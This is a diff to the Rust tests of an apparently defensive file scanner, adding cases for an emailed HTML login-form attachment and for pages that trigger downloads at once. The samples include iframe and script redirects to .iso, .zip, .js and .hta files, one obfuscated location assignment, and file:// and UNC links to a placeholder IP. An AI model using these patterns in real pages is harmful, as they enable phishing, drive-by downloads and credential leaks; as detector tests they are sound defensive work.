@@ -44,6 +44,18 @@ fn archive() -> Vec<u8> {
     crate::forge::zip::of("notes.txt", b"words and nothing else, for long enough to be some bytes")
 }
 
+/// A message with a page that asks for a password.
+fn mailed(disposition: &str) -> Case {
+    case(
+        "a.eml",
+        format!(
+            "From: a@x.invalid\r\nTo: b@x.invalid\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; \
+             boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nwords\r\n--b\r\nContent-Type: text/html\r\n\
+             Content-Disposition: {disposition}\r\n\r\n<html><body><form action=\"/in\">{LOGIN}</body></html>\r\n--b--\r\n"
+        ),
+    )
+}
+
 const LOGIN: &str = "<input name=user><input type=\"password\" name=p><button>Sign in</button></form>";
 
 pub const EXAMPLES: &[Example] = &[
@@ -144,6 +156,12 @@ pub const EXAMPLES: &[Example] = &[
         silent: || page("<form action=\"/search\"><input type=text name=q></form><p>Forgot your password?</p>"),
     },
     Example {
+        rule: "html.mailed-login",
+        fires: || mailed("attachment; filename=\"Secure.html\""),
+        // The text of a message asks for nothing that its reader's program would send.
+        silent: || mailed("inline"),
+    },
+    Example {
         rule: "html.password-sent-elsewhere",
         fires: || page(&format!("<form method=post action=\"https://x.invalid/a.php\">{LOGIN}")),
         silent: || {
@@ -225,7 +243,13 @@ fn an_honest_page_is_clean() {
 
 /// The names of what is in it.
 fn inside(report: &FileReport) -> Vec<&str> {
-    report.artifacts.iter().skip(1).filter_map(|a| a.claim.name.as_ref()).map(|n| n.text()).collect()
+    report
+        .artifacts
+        .iter()
+        .skip(1)
+        .filter_map(|a| a.claim.name.as_ref())
+        .map(sheepdip::model::name::Name::text)
+        .collect()
 }
 
 #[test]
@@ -381,6 +405,29 @@ fn false_login_pages_are_told_from_honest_ones() {
         let report = page(&format!("{body}{LOGIN}")).examine();
         assert_eq!(fired(&report), ["html.asks-for-password"], "{body}");
         assert_eq!(report.judgement.verdict, Verdict::Clean);
+    }
+}
+
+#[test]
+fn a_page_that_fetches_a_file_at_once_is_suspicious() {
+    for body in [
+        "<iframe src='https://x.invalid/a/order.iso'></iframe>",
+        "<script>location = 'https://x.invalid/a/order.zip?b=c'</script>",
+        "<script>window['loca' + 'tion']['href'] = '//x.invalid/a/order.js'</script>",
+        "<meta http-equiv=Refresh content='1;URL=https://x.invalid/order.hta'>",
+        "<style>body { background: url('file://203.0.113.9/a/b.png') }</style>",
+        "<link rel=stylesheet href='\\\\203.0.113.9\\a\\b.css'>",
+    ] {
+        let report = page(body).examine();
+        assert_eq!(report.judgement.verdict, Verdict::Suspicious, "{body}: {:?}", fired(&report));
+    }
+    for body in [
+        "<a href='https://x.invalid/a/setup.exe'>Download</a>",
+        "<script>location = 'https://order.zip/'; var file = 'https://x.invalid/a/order.zip'</script>",
+        "<style>body { background: url('a/b.png') }</style><meta http-equiv=refresh content='5'>",
+    ] {
+        let report = page(body).examine();
+        assert_eq!(report.judgement.verdict, Verdict::Clean, "{body}: {:?}", fired(&report));
     }
 }
 
